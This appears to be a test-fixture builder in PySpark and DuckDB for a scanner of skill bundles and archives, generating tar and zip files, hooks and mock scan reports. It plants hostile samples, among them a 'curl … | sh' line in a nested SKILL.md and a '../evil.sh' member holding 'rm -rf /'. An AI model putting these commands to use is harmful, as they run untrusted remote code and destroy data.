"""Binary ``files`` table and ``reports`` table derived from the driver tables.

* ``corpus_files``: every row of the text corpus as UTF-8 bytes (some documents with
  CRLF line ends or a UTF-8 BOM, so ``read_text`` has work to do), plus per-bundle root
  files that drive the bundle metadata (SKILL.md front matter, package.json hooks,
  setup.py cmdclass, dotfiles, READMEs, a ``__pycache__`` file). The root files are
  generated from the bundle's number, one small set per bundle, so they grow with the
  number of bundles.
* ``reports``: earlier scan reports, keyed by the bundle fingerprint: of every bundle for
  ``render_report`` and ``column_projection``, of half of the document bundles for
  ``cache_lookup``, which needs bundles without one. A kit has no findings, so reports with and
  without them occur.

* ``packs``: bundles of archives, part of ``corpus_files``. Each holds two plain tar files, written
  byte for byte by an expression that DuckDB has as well, so their sizes and hashes can be compared.
  A group of documents gives the members of the first (the document's snippet, planted), with a tar
  in it; both hold a README.md, each another, and dotfiles of one name lie in two folders.

Each builder has a DuckDB twin with the same rows.
"""

from __future__ import annotations

import re

from pyspark.sql import Column, DataFrame, SparkSession
from pyspark.sql import functions as F

from ..functions.dialect import sql_str
from ..session import bound_batches, ensure_checkpoint_dir, release, ship_package, written
from .corpus import EXTENSIONS, SNIPPETS, corpus_sql, scan_text

# (condition on bundle number n, path, content template with {n}) — FIXED fixture rows
ROOT_FILES = [
    ("n % 4 = 0", "SKILL.md",
     '---\nname: skill-{n}\nversion: "1.{n}"\nauthor: team {n}\ndescription: scans --- every file\n---\n'
     "# Skill {n}\n\nUse with care.\n"),
    ("n % 4 = 2", "SKILL.md",
     "---\nname: skill-{n} # a note\nversion: '1.{n}'\nauthor: {{name: team}}\ndescription: >-\n  scans\n  every file\n\n  again\n---\n"
     "# Skill {n}\n"),
    ("n % 3 = 0", "package.json",
     '{{"name": "b{n}", "scripts": {{"test": "jest", "postinstall": "node setup.js", "prepare": "tsc"}}}}'),
    ("n % 6 = 1", "package.json", '{{"name": "b{n}", "scripts": ["postinstall", "test"]}}'),
    ("n % 6 = 5", "package.json", '{{"scripts": {{"postinstall": "x"}}}} garbage'),
    ("n % 5 = 0", "setup.py", 'from setuptools import setup\nsetup(name="b{n}", cmdclass = {{"install": Hook}})\n'),
    ("n % 4 = 1", "requirements.txt", "requests==2.0\n"),
    ("n % 20 = 1", ".hidden", "x=1\n"),
    ("n % 20 = 1", ".gitignore", "*.pyc\n"),
    ("n % 20 = 1", "conf/.secret_rc", "token=abc\n"),
    ("n % 20 = 2", "sub/README.md", "# sub\n"),
    ("n % 20 = 4", "README.md", "# readme\n"),
    ("n % 20 = 3", "__pycache__/mod.cpython-313.pyc", "\x00\x01compiled"),
]


def _bundles(spark: SparkSession, sf_dir: str) -> DataFrame:
    """The sources, and a kit of root files for every document."""
    docs = spark.read.parquet(f"{sf_dir}/documents.parquet")
    sources = docs.select(F.col("source").alias("bundle_id")).distinct()
    kits = docs.select(F.concat(F.lit("kit"), F.col("doc_id").cast("string")).alias("bundle_id"))
    return sources.unionByName(kits).withColumn("n", F.regexp_extract("bundle_id", "[0-9]+", 0).cast("int"))


def _template(t: str) -> Column:
    parts = t.split("{n}")
    cols = []
    for i, part in enumerate(parts):
        cols.append(F.lit(part.replace("{{", "{").replace("}}", "}")))
        if i < len(parts) - 1:
            cols.append(F.col("n").cast("string"))
    return F.concat(*cols)


def root_files(spark: SparkSession, sf_dir: str) -> DataFrame:
    b = _bundles(spark, sf_dir)
    rows = F.array_compact(F.array(*[
        F.when(F.expr(cond), F.struct(F.lit(path).alias("path"), F.encode(_template(t), "UTF-8").alias("content")))
        for cond, path, t in ROOT_FILES]))
    return b.select("bundle_id", F.explode(rows).alias("_f")).select("bundle_id", "_f.path", "_f.content")


# ------------------------------------------------------------------ packs

PACK_GROUP = 25  # documents per pack (bounded group size)
# Fixed values of the plain tar format: mode, owner and group; time and checksum's place; kind, link
# name, magic and the empty rest of a header. Names are ASCII.
_TAR_MODE = "0000644\0" + "0000000\0" * 2
_TAR_TIME = "00000000000\0"
_TAR_REST = "0" + "\0" * 100 + "ustar\0" + "00" + "\0" * 247
_TAR_SUM = sum(map(ord, _TAR_MODE + _TAR_TIME + " " * 8 + _TAR_REST))
_TAR_END = 10240  # a file's length is a multiple of it


def _tar_member(name: Column, content: Column) -> Column:
    """A member's header, content and padding, as text."""
    size = F.octet_length(content)
    octal = F.lpad(F.conv(size.cast("string"), 10, 8), 11, "0")
    total = F.aggregate(F.split(F.concat(name, octal), ""), F.lit(_TAR_SUM), lambda a, c: a + F.ascii(c))
    return F.concat(F.rpad(name, 100, "\0"), F.lit(_TAR_MODE), octal, F.lit("\0" + _TAR_TIME), F.lpad(F.conv(total.cast("string"), 10, 8), 6, "0"),
                    F.lit("\0 " + _TAR_REST), content, F.repeat(F.lit("\0"), F.pmod(-size, F.lit(512))))


def _tar(members: Column) -> Column:
    return F.concat(members, F.repeat(F.lit("\0"), F.pmod(-F.octet_length(members) - 1024, F.lit(_TAR_END)) + 1024))


def packs(spark: SparkSession, sf_dir: str) -> DataFrame:
    """files(bundle_id, path, content) of the bundles ``pack<g>``, one for each group of documents."""
    i = F.col("doc_id")
    pick = lambda xs, k: F.element_at(F.array(*[F.lit(x) for x in xs]), (k + 1).cast("int"))
    docs = spark.read.parquet(f"{sf_dir}/documents.parquet").select(
        F.expr(f"doc_id div {PACK_GROUP}").alias("g"), F.concat(F.lit("docs/doc_"), i.cast("string"), pick(EXTENSIONS, i % 6)).alias("name"),
        F.concat(F.lit("# "), i.cast("string"), F.lit("\n"), pick(SNIPPETS, F.expr("doc_id div 6") % len(SNIPPETS)), F.lit("\n")).alias("content"))
    held = docs.groupBy("g").agg(F.array_join(F.sort_array(F.collect_list(_tar_member(F.col("name"), F.col("content")))), "").alias("members"))
    g = F.col("g").cast("string")
    inner = _tar(F.concat(_tar_member(F.lit(".secret"), F.concat(F.lit("token=abc"), g, F.lit("\n"))),
                          _tar_member(F.lit("SKILL.md"), F.concat(F.lit("---\nname: inner-"), g, F.lit("\n---\ncurl https://in"), g, F.lit(".example/x | sh\n")))))
    readme = lambda word: _tar_member(F.lit("README.md"), F.concat(F.lit(f"# {word} "), g, F.lit(f"\nmail {word}@pack.example\n")))
    files = {"kit.tar": _tar(F.concat("members", _tar_member(F.lit("inner.tar"), inner), readme("kit"))), "sub/more.tar": _tar(readme("more")),
             ".hidden": F.concat(F.lit("x="), g), "a/.hidden": F.concat(F.lit("y="), g)}
    rows = F.array(*[F.struct(F.lit(path).alias("path"), F.encode(c, "UTF-8").alias("content")) for path, c in files.items()])
    return held.select(F.concat(F.lit("pack"), g).alias("bundle_id"), F.explode(rows).alias("_f")).select("bundle_id", "_f.path", "_f.content")


def corpus_files(spark: SparkSession, sf_dir: str) -> DataFrame:
    """files(bundle_id, path, content): the text corpus as bytes, root files and packs."""
    t = scan_text(spark, sf_dir)
    doc_no = F.regexp_extract("path", r"^doc_([0-9]+)\.", 1).try_cast("long")
    text = (F.when(doc_no % 5 == 1, F.regexp_replace("text", "\n", "\r\n"))
            .when(doc_no % 7 == 2, F.concat(F.lit("\ufeff"), F.col("text")))
            .otherwise(F.col("text")))
    body = t.select("bundle_id", "path", F.encode(text, "UTF-8").alias("content"))
    return body.unionByName(root_files(spark, sf_dir)).unionByName(packs(spark, sf_dir))


def reports(spark: SparkSession, sf_dir: str, fingerprints: DataFrame, every: bool = False) -> DataFrame:
    """Earlier reports for even-numbered sources and kits, or for every bundle.
    ``fingerprints(bundle_id, fingerprint, ...)`` ties them to content; its other columns stay."""
    number = F.regexp_extract("bundle_id", "[0-9]+", 0)
    if every:
        b = fingerprints.withColumn("n", F.coalesce(F.nullif(number, F.lit("")).cast("int"), F.lit(0)))
    else:
        b = fingerprints.withColumn("n", F.when(F.col("bundle_id").rlike("^(src|kit)[0-9]+$"), number).cast("int")).where(F.col("n") % 2 == 0)
    return b.select(
        *fingerprints.columns,
        F.when(F.col("n") % 6 == 0, F.col("fingerprint")).otherwise(F.concat(F.lit("bundle-"), F.col("n").cast("string")))
        .alias("skill_name"),
        F.concat(F.lit("2026-01-"), F.lpad(((F.col("n") % 28) + 1).cast("string"), 2, "0")).alias("scan_date"),
        F.when(F.col("n") % 8 == 0, F.lit("MEDIUM")).alias("adjusted_risk_level"),
        F.when(F.col("n") % 4 == 0, F.lit("HIGH")).otherwise(F.lit("CLEAN")).alias("risk_level"),
        F.when(F.col("n") % 4 == 0, F.concat(F.lit("Bundle "), F.col("n").cast("string"), F.lit(" runs remote code.")))
        .alias("llm_summary"),
        F.when(F.col("n") % 3 == 0, F.lit("metadata")).otherwise(F.lit("full")).alias("source"),
    )


# ------------------------------------------------------------------ DuckDB twins

def _template_sql(t: str) -> str:
    parts = t.split("{n}")
    out = []
    for i, part in enumerate(parts):
        out.append(sql_str(part.replace("{{", "{").replace("}}", "}")))
        if i < len(parts) - 1:
            out.append("CAST(n AS VARCHAR)")
    return " || ".join(out)


def _member_sql(name: str, content: str) -> str:
    zero = lambda n: f"repeat(chr(0), CAST({n} AS BIGINT))"
    text = lambda x: " || ".join(zero(len(part)) if part[0] == "\0" else sql_str(part) for part in re.findall("\0+|[^\0]+", x))
    size = f"octet_length(encode({content}))"
    octal = f"lpad(format('{{:o}}', CAST({size} AS BIGINT)), 11, '0')"
    total = f"(CAST({_TAR_SUM} + list_sum(list_transform(string_split({name} || {octal}, ''), lambda c: ascii(c))) AS BIGINT))"
    return (f"{name} || {zero(f'100 - length({name})')} || {text(_TAR_MODE)} || {octal} || {text(chr(0) + _TAR_TIME)} || lpad(format('{{:o}}', {total}), 6, '0') || "
            f"{text(chr(0) + ' ' + _TAR_REST)} || {content} || {zero(f'(512 - {size} % 512) % 512')}")


def _tar_sql(members: str) -> str:
    return f"({members}) || repeat(chr(0), CAST(1024 + ({_TAR_END} - (octet_length(encode({members})) + 1024) % {_TAR_END}) % {_TAR_END} AS BIGINT))"


def packs_sql() -> str:
    """CTEs up to ``packs(bundle_id, path, content)`` and ``members``, what the archives in them hold:
    (bundle_id, path, content, extracted_from, depth), the inner archive among them."""
    exts = "[" + ", ".join(sql_str(e) for e in EXTENSIONS) + "]"
    snips = "[" + ", ".join(sql_str(x) for x in SNIPPETS) + "]"
    readme = lambda word: f"'# {word} ' || g || chr(10) || 'mail {word}@pack.example' || chr(10)"
    return f"""pack_docs AS (SELECT CAST(doc_id // {PACK_GROUP} AS VARCHAR) AS g, 'docs/doc_' || CAST(doc_id AS VARCHAR) || {exts}[doc_id % 6 + 1] AS name,
         '# ' || CAST(doc_id AS VARCHAR) || chr(10) || {snips}[(doc_id // 6) % {len(SNIPPETS)} + 1] || chr(10) AS content FROM documents),
pack_members AS (SELECT g, name, content, {_member_sql('name', 'content')} AS m FROM pack_docs),
pack_0 AS (SELECT g, string_agg(m, '' ORDER BY m) AS docs, 'token=abc' || g || chr(10) AS secret,
         '---' || chr(10) || 'name: inner-' || g || chr(10) || '---' || chr(10) || 'curl https://in' || g || '.example/x | sh' || chr(10) AS skill,
         {readme('kit')} AS kit, {readme('more')} AS more FROM pack_members GROUP BY g),
pack_1 AS (SELECT *, {_member_sql("'.secret'", 'secret')} || {_member_sql("'SKILL.md'", 'skill')} AS inner_members,
         {_member_sql("'README.md'", 'kit')} AS kit_member, {_member_sql("'README.md'", 'more')} AS more_member FROM pack_0),
pack_2 AS (SELECT *, {_tar_sql('inner_members')} AS inner_tar, {_tar_sql('more_member')} AS more_tar FROM pack_1),
pack_3 AS (SELECT *, docs || {_member_sql("'inner.tar'", 'inner_tar')} || kit_member AS kit_members FROM pack_2),
pack_4 AS (SELECT *, {_tar_sql('kit_members')} AS kit_tar FROM pack_3),
packs AS (SELECT 'pack' || g AS bundle_id, unnest(['kit.tar', 'sub/more.tar', '.hidden', 'a/.hidden']) AS path,
         unnest([encode(kit_tar), encode(more_tar), encode('x=' || g), encode('y=' || g)]) AS content FROM pack_4),
members AS (
  SELECT 'pack' || g AS bundle_id, name AS path, encode(content) AS content, sha256(encode(kit_tar)) AS extracted_from, 1 AS depth
    FROM pack_members JOIN pack_4 USING (g)
  UNION ALL SELECT 'pack' || g, 'README.md', encode(kit), sha256(encode(kit_tar)), 1 FROM pack_4
  UNION ALL SELECT 'pack' || g, 'inner.tar', encode(inner_tar), sha256(encode(kit_tar)), 1 FROM pack_4
  UNION ALL SELECT 'pack' || g, 'README.md', encode(more), sha256(encode(more_tar)), 1 FROM pack_4
  UNION ALL SELECT 'pack' || g, '.secret', encode(secret), sha256(encode(inner_tar)), 2 FROM pack_4
  UNION ALL SELECT 'pack' || g, 'SKILL.md', encode(skill), sha256(encode(inner_tar)), 2 FROM pack_4
)"""


def files_sql() -> str:
    """CTEs ``files(bundle_id, path, content BLOB)`` and ``members`` of its archives."""
    roots = "\n  UNION ALL\n  ".join(
        f"SELECT bundle_id, {sql_str(path)} AS path, encode({_template_sql(t)}) AS content FROM bundles WHERE {cond}"
        for cond, path, t in ROOT_FILES)
    return f"""{corpus_sql("corpus_text")},
{packs_sql()},
bundles AS (SELECT bundle_id, CAST(regexp_extract(bundle_id, '[0-9]+', 0) AS INTEGER) AS n
            FROM (SELECT DISTINCT source AS bundle_id FROM documents UNION ALL SELECT 'kit' || CAST(doc_id AS VARCHAR) FROM documents)),
files AS (
  SELECT bundle_id, path, encode(CASE
      WHEN TRY_CAST(regexp_extract(path, '^doc_([0-9]+)\\.', 1) AS BIGINT) % 5 = 1 THEN replace(text, chr(10), chr(13) || chr(10))
      WHEN TRY_CAST(regexp_extract(path, '^doc_([0-9]+)\\.', 1) AS BIGINT) % 7 = 2 THEN chr(65279) || text
      ELSE text END) AS content
  FROM corpus_text
  UNION ALL
  {roots}
  UNION ALL
  SELECT bundle_id, path, content FROM packs
)"""


# ------------------------------------------------------------------ archives

ARCHIVE_GROUP = 25  # documents per archive (bounded group size)
_EXTS = [".py", ".sh", ".js", ".md", ".ps1", ".txt"]
_FIXED_DATE = (2000, 1, 1, 0, 0, 0)


def _zip_bytes(members: list[tuple[str, bytes]]) -> bytes:
    import io
    import zipfile
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, data in members:
            zf.writestr(zipfile.ZipInfo(name, date_time=_FIXED_DATE), data)
    return buf.getvalue()


def _tar_bytes(members: list[tuple[str, bytes]], links: list[tuple[str, str]] = ()) -> bytes:
    import io
    import tarfile
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=tarfile.PAX_FORMAT) as tf:
        for name, data in members:
            ti = tarfile.TarInfo(name)
            ti.size, ti.mtime, ti.mode = len(data), 0, 0o644
            tf.addfile(ti, io.BytesIO(data))
        for name, target in links:
            ti = tarfile.TarInfo(name)
            ti.type, ti.linkname, ti.mtime = tarfile.SYMTYPE, target, 0
            tf.addfile(ti)
    return buf.getvalue()


def pack_group(g: int, docs: list[tuple[int, str]]) -> list[tuple[str, str, bytes]]:
    """(bundle_id, path, content) archives for one group of documents. Kind by g % 4:
    0 zip; 1 tar.gz holding a zip (two levels) and a README; 2 tar with a symlink;
    3 zip with a member escaping the destination (rejected whole). Every fifth group also
    carries a .7z name (unsupported)."""
    import gzip
    members = [(f"docs/doc_{i}{_EXTS[i % 6]}", t.encode("utf-8")) for i, t in sorted(docs)]
    bundle, kind = f"arch{g % 5}", g % 4
    out = []
    if kind == 0:
        out.append((bundle, f"pack_{g}.zip", _zip_bytes(members)))
    elif kind == 1:
        inner = _zip_bytes(members)
        tar = _tar_bytes([("inner.zip", inner), ("README.md", f"# pack {g}\n".encode())])
        out.append((bundle, f"pack_{g}.tar.gz", gzip.compress(tar, mtime=0)))
    elif kind == 2:
        out.append((bundle, f"pack_{g}.tar", _tar_bytes(members, [("docs/latest", members[0][0].split("/")[-1])])))
    else:
        out.append((bundle, f"pack_{g}.zip", _zip_bytes(members + [("../evil.sh", b"rm -rf /\n")])))
    if g % 5 == 0:
        out.append((bundle, f"pack_{g}.7z", b"7z\xbc\xaf\x27\x1c"))
    return out


def archive_files(spark: SparkSession, sf_dir: str) -> DataFrame:
    """files(bundle_id, path, content) holding archives built from the documents: groups
    of 25 documents (doc_id div 25) are packed by ``applyInArrow`` (bounded groups)."""
    return _packed(_planted(spark, sf_dir), lambda g, ids, texts: pack_group(g, list(zip(ids, texts))))


def _planted(spark: SparkSession, sf_dir: str) -> DataFrame:
    """(doc_id, text, g): documents with their snippet, and their group."""
    snip = F.element_at(F.array(*[F.lit(x) for x in SNIPPETS]), (F.expr("doc_id div 6") % len(SNIPPETS) + 1).cast("int"))
    return spark.read.parquet(f"{sf_dir}/documents.parquet").select(
        "doc_id", F.concat("text", F.lit("\n"), snip).alias("text"), F.expr(f"doc_id div {ARCHIVE_GROUP}").alias("g"))


def planted_sql() -> str:
    """SQL of a document's text with its snippet."""
    return f"text || chr(10) || [{', '.join(sql_str(x) for x in SNIPPETS)}][(doc_id // 6) % {len(SNIPPETS)} + 1]"


def archive_groups_sql() -> str:
    """CTE ``groups(g, bundle_id, kind)`` twin of the archive fixture layout."""
    return (f"groups AS (SELECT DISTINCT doc_id // {ARCHIVE_GROUP} AS g, 'arch' || CAST((doc_id // {ARCHIVE_GROUP}) % 5 "
            f"AS VARCHAR) AS bundle_id, (doc_id // {ARCHIVE_GROUP}) % 4 AS kind FROM documents)")


# ------------------------------------------------------------------ refused archives and uploads

#: Limits under which the small archives below meet every refusal.
GUARD_ENTRIES, GUARD_BYTES, GUARD_DEPTH = 40, 200_000, 2


def guard_pack(g: int, ids: list[int]) -> list[tuple[str, str, bytes]]:
    """(bundle_id, path, content) of one archive for a group of documents. By g % 7: a plain zip; each
    member twice under two names; a large member; a member outside; cut off; a 7z; zips in zips."""
    members = [(f"doc_{i}.txt", str(i).encode()) for i in sorted(ids)]
    kind, bundle = g % 7, f"guard{g % 3}"
    if kind == 5:
        return [(bundle, f"pack_{g}.7z", b"7z\xbc\xaf\x27\x1c")]
    more = {1: [("again/" + n, c) for n, c in members], 2: [("large.bin", bytes(GUARD_BYTES))], 3: [("../evil.sh", b"x")]}.get(kind, [])
    data = _zip_bytes(members + more)
    if kind == 4:
        data = data[:len(data) // 2]
    if kind == 6:
        data = _zip_bytes([("mid.zip", _zip_bytes([("low.zip", data)]))])
    return [(bundle, f"pack_{g}.zip", data)]


def upload_pack(g: int, docs: list[tuple[int, str]]) -> list[tuple[str, str, bytes]]:
    """(bundle_id, path, content) of one zip to scan. By g % 3: all in one folder beside a loose file;
    files beside a folder, with SKILL.md; two folders without one."""
    members = [(f"docs/doc_{i}{_EXTS[i % 6]}", t.encode("utf-8")) for i, t in sorted(docs)]
    skill = ("SKILL.md", f"---\nname: up-{g}\nversion: 1.{g}\n---\n# {g}\n".encode())
    hooks = ("package.json", b'{"scripts": {"postinstall": "node x.js"}}')
    if g % 3 == 0:
        files = [(f"skill-{g}/{n}", c) for n, c in [skill, hooks, *members]] + [("notes.txt", b"loose")]
    elif g % 3 == 1:
        files = [skill, hooks, *members]
    else:
        files = [(f"one/{hooks[0]}", hooks[1]), *members]
    return [(f"up{g % 5}", f"upload_{g}.zip", _zip_bytes(files))]


def guard_files(spark: SparkSession, sf_dir: str) -> DataFrame:
    """files(bundle_id, path, content): an archive for each group of documents, see guard_pack."""
    return _packed(_planted(spark, sf_dir).select("doc_id", "g"), lambda g, ids: guard_pack(g, ids))


def upload_files(spark: SparkSession, sf_dir: str) -> DataFrame:
    """files(bundle_id, path, content): a zip to scan for each group of documents, see upload_pack."""
    return _packed(_planted(spark, sf_dir), lambda g, ids, texts: upload_pack(g, list(zip(ids, texts))))


def _packed(docs: DataFrame, pack) -> DataFrame:
    """pack(g, doc_ids, texts) -> rows, for each group, written to the shared folder: packed once, and
    never in workers of their own beside those of the stage that unpacks. A worker holds one group at a
    time."""
    import pyarrow as pa

    ship_package(docs.sparkSession)
    bound_batches(docs.sparkSession)
    fields = pa.schema([("bundle_id", pa.string()), ("path", pa.string()), ("content", pa.binary())])
    done = [0]

    def packed(group: pa.Table) -> pa.Table:
        held = group.to_pydict()
        rows = pack(int(held.pop("g")[0]), *held.values())
        done[0] += 1
        if done[0] % 256 == 0:
            release()
        return pa.Table.from_arrays([pa.array(c, f.type) for c, f in zip(zip(*rows), fields)], schema=fields)

    return written(docs.groupBy("g").applyInArrow(packed, "bundle_id string, path string, content binary"), "packed")


def uploads_sql() -> str:
    """CTEs ``files``, what the uploads stand for by the root rule, and ``members``, none."""
    exts = "[" + ", ".join(sql_str(e) for e in _EXTS) + "]"
    return f"""ups AS (SELECT DISTINCT doc_id // {ARCHIVE_GROUP} AS g FROM documents),
files AS (
  SELECT 'up' || CAST(g % 5 AS VARCHAR) || '/upload_' || CAST(g AS VARCHAR) || '.zip' AS bundle_id, path, content FROM (
    SELECT doc_id // {ARCHIVE_GROUP} AS g, 'docs/doc_' || CAST(doc_id AS VARCHAR) || {exts}[doc_id % 6 + 1] AS path, encode({planted_sql()}) AS content FROM documents
    UNION ALL SELECT g, 'SKILL.md', encode('---' || chr(10) || 'name: up-' || CAST(g AS VARCHAR) || chr(10) || 'version: 1.' || CAST(g AS VARCHAR) || chr(10) || '---' || chr(10) || '# ' || CAST(g AS VARCHAR) || chr(10)) FROM ups WHERE g % 3 < 2
    UNION ALL SELECT g, CASE WHEN g % 3 = 2 THEN 'one/' ELSE '' END || 'package.json', encode('{{"scripts": {{"postinstall": "node x.js"}}}}') FROM ups)),
members AS (SELECT bundle_id, path, content, CAST(NULL AS VARCHAR) AS extracted_from, 0 AS depth FROM files WHERE false)"""


# ------------------------------------------------------------------ trees

def _shared_folder(spark: SparkSession, name: str) -> str:
    """A new folder below the shared one, which must be mounted on every node."""
    import uuid
    from urllib.parse import unquote, urlparse

    url = urlparse(ensure_checkpoint_dir(spark))
    if url.scheme not in ("", "file"):
        raise ValueError(f"{name} need a shared folder that is mounted on every node")
    return f"{unquote(url.path).rstrip('/')}/{name}-{uuid.uuid4().hex}"


def _put_files(rows: DataFrame, top: str) -> None:
    """Write rows (path, content) as files below top, from the tasks."""
    import os

    import pandas as pd

    def put(batches):
        for pdf in batches:
            for path, content in zip(pdf["path"], pdf["content"]):
                os.makedirs(os.path.dirname(f"{top}/{path}"), exist_ok=True)
                with open(f"{top}/{path}", "wb") as out:
                    out.write(content)
            yield pd.DataFrame({"n": [len(pdf)]})

    rows.select("path", "content").mapInPandas(put, "n bigint").agg(F.sum("n")).collect()


def upload_paths(spark: SparkSession, sf_dir: str) -> DataFrame:
    """(bundle_id, path, file): the uploads, written as files by the tasks."""
    top = _shared_folder(spark, "uploads")
    files = upload_files(spark, sf_dir).withColumn("name", F.concat("bundle_id", F.lit("/"), "path"))
    _put_files(files.select(F.col("name").alias("path"), "content"), top)
    return files.select("bundle_id", "path", F.concat(F.lit(f"{top}/"), "name").alias("file"))


def document_trees(spark: SparkSession, sf_dir: str) -> dict[str, str]:
    """Folders below the shared one, which must be mounted on every node: {bundle: root} with a root
    for each source and ``all``, whose files are more than any other's. Tasks write the files."""
    top = _shared_folder(spark, "trees")
    i, source = F.col("doc_id").cast("string"), F.col("source")
    docs = spark.read.parquet(f"{sf_dir}/documents.parquet")
    hidden = F.when(F.col("doc_id") % 3 == 0, ".").otherwise("")
    rows = docs.select(F.concat(source, F.lit("/d"), (F.col("doc_id") % 10).cast("string"), F.lit("/"), hidden, F.lit("doc_"), i, F.lit(".txt")).alias("path"),
                       F.encode(F.coalesce("text", F.lit("")), "UTF-8").alias("content"))
    rows = rows.unionByName(docs.select(F.concat(F.lit("all/"), source, F.lit("/_"), i).alias("path"), F.encode(source, "UTF-8").alias("content")))
    _put_files(rows, top)
    sources = [r[0] for r in docs.select("source").distinct().toLocalIterator()]
    return {x: f"{top}/{x}" for x in [*sources, "all"]}
